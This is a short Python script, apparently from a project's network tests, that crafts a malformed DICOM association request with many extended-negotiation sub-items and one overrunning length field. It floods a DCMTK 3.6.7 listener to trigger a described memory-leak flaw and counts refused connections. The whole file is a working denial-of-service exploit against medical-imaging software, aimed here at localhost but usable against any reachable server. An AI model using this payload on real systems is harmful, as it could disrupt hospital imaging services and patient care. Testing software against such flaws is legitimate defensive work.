"""Sends crafted A-ASSOCIATE-RQ PDUs to a DICOM port, for the network tests.

    association_flood.py PORT REQUESTS ITEMS

Each request carries ITEMS SOP Class Extended Negotiation sub-items followed by one whose length
runs past the end of its User Information item: the request DCMTK 3.6.7 parses and rejects while
keeping the items it had allocated (CVE-2026-50254). Prints how many requests were answered and how
many connections were refused (while the listener replaced its receiving process).
"""
import socket
import struct
import sys

port, requests, items = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])


def item(kind, payload):
    return struct.pack(">BBH", kind, 0, len(payload)) + payload


def extended_negotiation(uid, info):
    body = struct.pack(">H", len(uid)) + uid + info
    return struct.pack(">BBH", 0x56, 0, len(body)) + body


mr = b"1.2.840.10008.5.1.4.1.1.4"
user_info = item(0x51, struct.pack(">I", 16384)) + item(0x52, b"1.2.3.4")
user_info += b"".join(extended_negotiation(mr, b"\x01" * 6) for _ in range(items))
user_info += struct.pack(">BBHH", 0x56, 0, 4000, len(mr)) + mr  # claims 4000 bytes that are not there
body = struct.pack(">HH", 1, 0) + b"MEDPIPE".ljust(16) + b"FLOOD".ljust(16) + bytes(32)
body += item(0x10, b"1.2.840.10008.3.1.1.1")
body += item(0x20, bytes([1, 0, 0, 0]) + item(0x30, mr) + item(0x40, b"1.2.840.10008.1.2.1"))
body += item(0x50, user_info)
pdu = struct.pack(">BBI", 1, 0, len(body)) + body

answered = refused = 0
for _ in range(requests):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
            connection.sendall(pdu)
            answered += len(connection.recv(16)) > 0
    except OSError:
        refused += 1
print(answered, refused)
